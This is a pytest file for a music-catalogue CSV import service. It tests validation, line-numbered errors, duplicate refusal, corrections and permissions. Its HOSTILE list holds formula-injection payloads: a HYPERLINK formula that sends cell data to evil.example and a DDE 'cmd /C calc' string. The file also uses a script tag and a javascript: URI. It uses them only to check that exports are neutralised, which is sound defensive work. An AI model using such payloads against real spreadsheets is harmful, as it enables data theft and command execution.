"""From a CSV to prepared lines: what is kept, what is refused and why, what can be corrected."""

from __future__ import annotations

import csv
import io
import itertools
import random
import time
from pathlib import Path
from typing import Any

import pytest

from obbligato.documents.license import LicenseDocument
from obbligato.documents.presets import preset_named
from obbligato.protocol.constants import PPM, Flag, Tier
from scripts.demo.catalog import read_catalogue
from tests.backend.imports.conftest import ImportsEnv, content, song, written
from tests.onchain import ARTIST, DUO, LABEL, STRANGER

EXTRACT = Path(__file__).parents[3] / "data" / "catalogue" / "recordings.csv"


def errors_of(imports_env: ImportsEnv, catalogue_id: str) -> dict[int, list[tuple[str, str]]]:
    """By line, fields and reasons, as the API tells them."""
    answer = imports_env.as_(LABEL).ask(
        "GET", f"/{catalogue_id}/lines", params={"state": "refused"}
    )
    assert answer.status_code == 200, answer.text
    return {
        line["line"]: [(error["field"], error["reason"]) for error in line["errors"]]
        for line in answer.json()["items"]
    }


def document_of(imports_env: ImportsEnv, catalogue_id: str, line: int) -> LicenseDocument:
    """What was stored for a line."""
    path = f"/{catalogue_id}/lines"
    items = imports_env.as_(LABEL).ask("GET", path, params={"limit": 200}).json()["items"]
    cid = next(each["document"] for each in items if each["line"] == line)
    return LicenseDocument.from_bytes(imports_env.services.store.get(cid))


def test_of_2000_lines_7_bad_ones_are_reported_by_line_and_field_and_1993_are_prepared(
    any_imports_env: ImportsEnv,
) -> None:
    facts = itertools.islice(itertools.cycle(read_catalogue(EXTRACT)), 2_000)
    rows = [
        {
            "isrc": (isrc := f"ZZAAA{number:07d}"),  # ZZ is nobody's
            "title": f"{each.title} ({number})",
            "artists": (each.artist or "Unknown").replace("|", "\\|"),
            "release_date": each.release_date,
            "content_hash": content(isrc),
            "payees": f"{ARTIST.address}:700000:performer|{LABEL.address}:300000:label",
            "preset": "",
        }
        for number, each in enumerate(facts, start=1)
    ]
    bad = {
        "isrc": "US-UG1-24",
        "title": "   ",
        "content_hash": "5e" * 31,
        "release_date": "2024-02-30",
        "payees": f"{ARTIST.address}:700000:performer|{LABEL.address}:299999:label",
        "preset": "free-for-all",
    }
    places = random.Random(47).sample(range(1_000), len(bad) + 1)
    for place, (column, cell) in zip(places, bad.items(), strict=False):
        rows[place][column] = cell
    # The seventh asks for the recording of a line after the first thousand.
    rows[1_500]["content_hash"] = rows[places[-1]]["content_hash"]
    expected = {place + 2: column for place, column in zip(places, bad, strict=False)}
    expected[1_502] = "content_hash"

    visitor = any_imports_env.as_(LABEL)
    started = time.monotonic()
    catalogue_id = visitor.take_in(written(rows), preset="analysis-only")
    assert visitor.counts(catalogue_id) == {"waiting": 2_000}
    any_imports_env.work()
    print(f"2 000 lines in {time.monotonic() - started:.1f} s")

    assert visitor.counts(catalogue_id) == {"prepared": 1_993, "refused": 7}
    found = errors_of(any_imports_env, catalogue_id)
    assert {line: field for line, [(field, _)] in found.items()} == expected
    assert f"line {places[-1] + 2} " in found[1_502][0][1]
    answer = visitor.ask("GET", f"/{catalogue_id}").json()
    assert (answer["state"], answer["lines"]) == ("ready", 2_000)
    assert [each["line"] for each in answer["first_errors"]] == sorted(expected)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "<script>alert('x')</script>",
    'Quotes " and , commas\r\nand a second line',
    "مرحبا بالعالم",
    "👩‍🎤🎶 " * 60,
    "x" * 500,
    "'=already guarded",
]


def test_titles_are_stored_whole_and_no_exported_cell_is_a_formula(imports_env: ImportsEnv) -> None:
    rows = [{**song(f"{number}"), "title": title} for number, title in enumerate(HOSTILE)]
    visitor = imports_env.as_(LABEL)
    catalogue_id = visitor.take_in(written(rows))
    imports_env.work()
    stored = sorted(imports_env.lines(catalogue_id).values(), key=lambda line: line.line)
    assert [line.cells["title"] for line in stored] == HOSTILE
    shown = [document_of(imports_env, catalogue_id, line.line).recording.title for line in stored]
    assert shown == HOSTILE

    refused = visitor.take_in(written([{**row, "preset": "none such"} for row in rows]))
    imports_env.work()
    answer = visitor.ask("GET", f"/{refused}/errors.csv")
    assert answer.headers["content-type"].startswith("text/csv")
    records = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [record["line"] for record in records] == [str(line.line) for line in stored]
    for record in records:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record.values())  # fmt: skip
        record["preset"] = "no-ai"

    # What comes back corrected is what was sent at first.
    corrected = visitor.send(written(records), "PUT", f"/{refused}/lines")
    assert corrected.status_code == 200, corrected.text
    assert visitor.counts(refused) == {"waiting": len(HOSTILE)}
    imports_env.work()
    assert visitor.counts(refused) == {"prepared": len(HOSTILE)}
    titles = [line.cells["title"] for _, line in sorted(imports_env.lines(refused).items())]
    assert titles == HOSTILE


def test_line_numbers_are_those_of_the_file_whatever_stands_between(
    imports_env: ImportsEnv,
) -> None:
    text = (
        b"\xef\xbb\xbftitle,artists,content_hash,preset\r\n"
        + f'"Two\r\nlines",A,{content("a")},no-ai\r\n'.encode()
        + b"\r\n"
        + f"Five,B,{content('b')},nothing such\r\n".encode()
        + f"Six,B,{content('c')},no-ai,more\r\n".encode()
        + f"Seven,B,{content('d')},no-ai\r\n".encode()
    )
    catalogue_id = imports_env.as_(LABEL).take_in(text)
    imports_env.work()
    assert {line: kept.state for line, kept in imports_env.lines(catalogue_id).items()} == {
        2: "prepared",
        5: "refused",
        6: "refused",
        7: "prepared",
    }
    found = errors_of(imports_env, catalogue_id)
    assert found[5][0][0] == "preset"
    assert found[6] == [
        (
            "line",
            "has 5 cells for 4 columns: look for a missing comma, or quote cells with commas in them",
        )
    ]


def test_every_error_of_a_line_is_told_at_once(imports_env: ImportsEnv) -> None:
    row = {
        "title": "",
        "artists": f"0x{'ab' * 20}",
        "content_hash": "zz",
        "isrc": "x",
        "iswc": "T-034.524.680-2",
        "release_date": "tomorrow",
        "contributors": "singer:Ana",
        "scope": "everything",
        "image": "javascript:alert(1)",
        "owner": "0x" + "0" * 40,
        "payees": "nobody",
        "preset": "yes",
        "term_days": "7",
        "influence_cap_bps": "10001",
        "flags": "FREE",
        "STYLE.playback_units": "1.5",
    }
    catalogue_id = imports_env.as_(LABEL).take_in(written([row]))
    imports_env.work()
    fields = [field for field, _ in errors_of(imports_env, catalogue_id)[2]]
    # Who is paid depends on whose it is, and that is not known here.
    assert sorted(fields) == sorted(set(row) - {"payees"})


def test_a_line_says_what_it_grants_to_the_last_price(imports_env: ImportsEnv) -> None:
    row = song(
        "Aurora",
        artists="Nadia Vale | Trio \\| Norte",
        content_hash="0x" + content("Aurora").upper(),
        isrc="AA-6Q7-20-00047",
        contributors="composer:Ana: the first|session musician:Bo",
        payees=f"{ARTIST.address}:1:session musician|{DUO.address.lower()}:999999:Session_Musician",
        owner=ARTIST.address,
        flags="GRANT_REQUIRED|model_bound",
        term_days="400",
        influence_cap_bps="0",
    )
    row |= {
        "VOICE.grant_fee_units": "7",
        "VOICE.generation_units": "0",
        "GENERATIVE.generation_units": "2400",
        "GENERATIVE.playback_units": "not offered",
    }
    catalogue_id = imports_env.as_(LABEL).take_in(written([row]))
    imports_env.work()
    line = imports_env.lines(catalogue_id)[2]
    assert (line.state, line.owner) == ("prepared", ARTIST.address), line.errors
    document = document_of(imports_env, catalogue_id, 2)
    assert document.recording.artists == ("Nadia Vale", "Trio | Norte")
    assert document.recording.isrc == "AA6Q72000047"
    assert document.recording.content_hash.hex() == content("Aurora")
    assert [c.name for c in document.recording.contributors] == ["Ana: the first", "Bo"]
    # A tier that allows the voice covers it.
    assert document.recording.scope == ("recording", "voice")
    terms = document.terms.terms()
    assert (terms.term_days, terms.influence_cap_bps) == (400, 0)
    assert terms.flags == Flag.GRANT_REQUIRED | Flag.MODEL_BOUND
    preset = preset_named("train-dont-imitate")
    assert terms.card(Tier.TRAINING) == preset.cards[Tier.TRAINING]
    assert terms.card(Tier.VOICE).model_dump() == {
        "training_run": 2**64 - 1,
        "generation": 0,
        "playback": 2**64 - 1,
        "grant_fee": 7,
    }
    assert terms.card(Tier.GENERATIVE).generation == 2_400
    assert terms.card(Tier.GENERATIVE).playback == 2**64 - 1
    assert line.split is not None
    shares = {payee["account"]: payee["share"] for payee in line.split["payees"]}
    assert shares == {ARTIST.address: 1, DUO.address: PPM - 1}


def test_defaults_count_where_a_line_is_silent_and_a_form_carries_them_too(
    imports_env: ImportsEnv,
) -> None:
    rows = [song("One", preset=""), song("Two", preset="no-ai", owner=DUO.address)]
    payees = f'[{{"account": "{STRANGER.address}", "share_ppm": 1000000, "role": "label"}}]'
    answer = imports_env.as_(LABEL).ask(
        "POST",
        files={"file": ("catalogue.csv", written(rows), "text/csv")},
        data={"owner": ARTIST.address, "preset": "everything", "payees": payees},
    )
    assert answer.status_code == 201, answer.text
    catalogue_id = answer.json()["id"]
    imports_env.work()
    lines = imports_env.lines(catalogue_id)
    assert [lines[2].owner, lines[3].owner] == [ARTIST.address, DUO.address]
    for line in lines.values():
        assert line.split is not None
        assert [payee["account"] for payee in line.split["payees"]] == [STRANGER.address]
    assert document_of(imports_env, catalogue_id, 2).terms.tiers == 0b111111
    assert document_of(imports_env, catalogue_id, 3).terms.tiers == 0


def test_the_same_recording_or_isrc_twice_is_refused_naming_the_other_line(
    imports_env: ImportsEnv,
) -> None:
    same = song("One", isrc="AA6Q72000047")
    rows = [
        same,
        {**same, "title": "Again", "isrc": ""},
        song("Other file", isrc="AA-6Q7-20-00047"),
        {**same, "title": "By another owner", "isrc": "", "owner": DUO.address},
    ]
    catalogue_id = imports_env.as_(LABEL).take_in(written(rows))
    imports_env.work()
    found = errors_of(imports_env, catalogue_id)
    assert {line: [field for field, _ in errors] for line, errors in found.items()} == {
        3: ["content_hash"],
        4: ["isrc"],
    }
    assert all("line 2 " in errors[0][1] for errors in found.values())


def test_a_recording_that_the_owner_licensed_already_is_refused_and_anothers_is_a_warning(
    imports_env: ImportsEnv,
) -> None:
    # The story's licence 1 is the artist's, for the file "one".
    rows = [song("one", owner=ARTIST.address), song("one", owner=DUO.address)]
    catalogue_id = imports_env.as_(LABEL).take_in(written(rows))
    imports_env.work()
    lines = imports_env.lines(catalogue_id)
    assert lines[2].errors == [
        {
            "field": "content_hash",
            "reason": f"licence 1 of {ARTIST.address} is for this recording already: amend that one instead",
        }
    ]
    assert lines[3].state == "prepared"
    assert len(lines[3].warnings) == 1
    assert lines[3].warnings[0].startswith("Licence 1, “one” by Somebody")


def test_a_line_is_checked_again_when_the_one_it_collides_with_is_corrected(
    imports_env: ImportsEnv,
) -> None:
    rows = [song("One", iswc="wrong"), {**song("One"), "title": "The same file"}]
    visitor = imports_env.as_(LABEL)
    catalogue_id = visitor.take_in(written(rows))
    imports_env.work()
    assert visitor.counts(catalogue_id) == {"refused": 2}
    first = {"line": "2", **song("Another")}
    assert visitor.send(written([first]), "PUT", f"/{catalogue_id}/lines").status_code == 200
    busy = visitor.send(written([first]), "PUT", f"/{catalogue_id}/lines")
    assert (busy.status_code, busy.json()["field"]) == (409, "catalogue_id")
    imports_env.work()
    assert visitor.counts(catalogue_id) == {"prepared": 2}
    done = visitor.send(written([first]), "PUT", f"/{catalogue_id}/lines")
    assert (done.status_code, done.json()["field"]) == (422, "line")
    assert "'2' is no refused line" in done.json()["detail"]


@pytest.mark.parametrize(
    ("data", "field", "words"),
    [
        (b"", "title", "is missing"),
        (b"title,artists\nA,B\n", "content_hash", "is missing"),
        (b"title,artists,content_hash,price\nA,B,C,D\n", "price", "is no column"),
        (b"title,artists,content_hash,title\nA,B,C,D\n", "title", "twice"),
        (b"title,artists,content_hash\n", "file", "no lines"),
        (b"title,artists,content_hash\nA,B\xff,C\n", "file", "line 2: byte 30 is not UTF-8"),
        (b"title,artists,content_hash\nA,B,\x00\n", "file", "line 2: holds a NUL"),
        (b'title,artists,content_hash\nA,"B"x,C\n', "file", "line 2: not CSV"),
        (b"title,artists,content_hash\n" + b"A,B,C\n" * 10_001, "file", "10000 lines"),
        (b"\xff\xfet\x00i\x00", "file", "line 1: byte 0"),
    ],
)
def test_a_file_that_is_no_catalogue_is_refused_naming_what_is_wrong(
    imports_env: ImportsEnv, data: bytes, field: str, words: str
) -> None:
    answer = imports_env.as_(LABEL).send(data)
    assert (answer.status_code, answer.json()["field"]) == (422, field), answer.text
    assert words in answer.json()["detail"]
    assert imports_env.as_(LABEL).ask("GET").json()["items"] == []


def test_too_large_a_file_and_another_kind_of_content_are_refused(imports_env: ImportsEnv) -> None:
    large = imports_env.as_(LABEL).send(b"title\n" + b"x" * (8 * 2**20))
    assert (large.status_code, large.json()["field"]) == (413, "file")
    other = imports_env.as_(LABEL).ask("POST", json={"title": "A"})
    assert (other.status_code, other.json()["field"]) == (415, "Content-Type")
    broken = imports_env.as_(LABEL).ask(
        "POST", content=b"--x", headers={"content-type": "multipart/form-data"}
    )
    assert (broken.status_code, broken.json()["field"]) == (422, "file")


@pytest.mark.parametrize(
    ("given", "field"),
    [
        ({"owner": "0x12"}, "owner"),
        ({"preset": "all"}, "preset"),
        ({"payees": "[1]"}, "payees"),
        ({"payees": "[" * 5_000}, "payees"),
        ({"payees": f"{ARTIST.address}:5:label"}, "payees"),
    ],
)
def test_a_wrong_default_is_refused_by_name(
    imports_env: ImportsEnv, given: dict[str, str], field: str
) -> None:
    answer = imports_env.as_(LABEL).send(written([song("A")]), params=given)
    assert (answer.status_code, answer.json()["field"]) == (422, field), answer.text


def test_the_same_file_with_the_same_key_is_one_catalogue(imports_env: ImportsEnv) -> None:
    visitor, key = imports_env.as_(LABEL), {"Idempotency-Key": "march"}
    file = written([song("A")])
    first = visitor.send(file, headers=key)
    assert visitor.send(file, headers=key).json()["id"] == first.json()["id"]
    other = visitor.send(written([song("B")]), headers=key)
    assert (other.status_code, other.json()["field"]) == (409, "Idempotency-Key")
    assert visitor.send(file).json()["id"] != first.json()["id"]
    assert len(visitor.ask("GET").json()["items"]) == 2


def test_strangers_see_nothing_and_owners_their_own_lines(imports_env: ImportsEnv) -> None:
    rows = [song("A", owner=ARTIST.address), song("B", owner=DUO.address)]
    catalogue_id = imports_env.as_(LABEL).take_in(written(rows))
    imports_env.work()

    def asked(by: Any, path: str = "", method: str = "GET", **options: Any) -> int:
        return int(imports_env.as_(by).ask(method, f"/{catalogue_id}{path}", **options).status_code)

    assert imports_env.client.get(f"/v1/catalogues/{catalogue_id}").status_code == 401
    for path in ("", "/lines", "/errors.csv"):
        assert asked(STRANGER, path) == 403
    assert asked(STRANGER, "/batches", "POST", json={}) == 403
    assert asked(STRANGER, "/acts", "POST", json={}) == 403
    own = imports_env.as_(ARTIST).ask("GET", f"/{catalogue_id}/lines").json()["items"]
    assert [line["cells"]["title"] for line in own] == ["A"]
    assert asked(ARTIST, method="DELETE") == 403
    assert imports_env.as_(ARTIST).send("x", "PUT", f"/{catalogue_id}/lines").status_code == 403
    assert imports_env.as_(LABEL).ask("GET", f"/{'0' * 32}").status_code == 404
    assert asked(LABEL, method="DELETE") == 204
    assert asked(LABEL, "/batches", "POST", json={}) == 409


def test_pages_of_lines_follow_each_other(imports_env: ImportsEnv) -> None:
    catalogue_id = imports_env.as_(LABEL).take_in(written([song(f"Song {n}") for n in range(7)]))
    found: list[int] = []
    cursor: dict[str, str] = {}
    while True:
        answer = imports_env.as_(LABEL).ask(
            "GET", f"/{catalogue_id}/lines", params={"limit": 3, **cursor}
        )
        found += [line["line"] for line in answer.json()["items"]]
        if answer.json()["next"] is None:
            break
        cursor = {"cursor": answer.json()["next"]}
    assert found == list(range(2, 9))
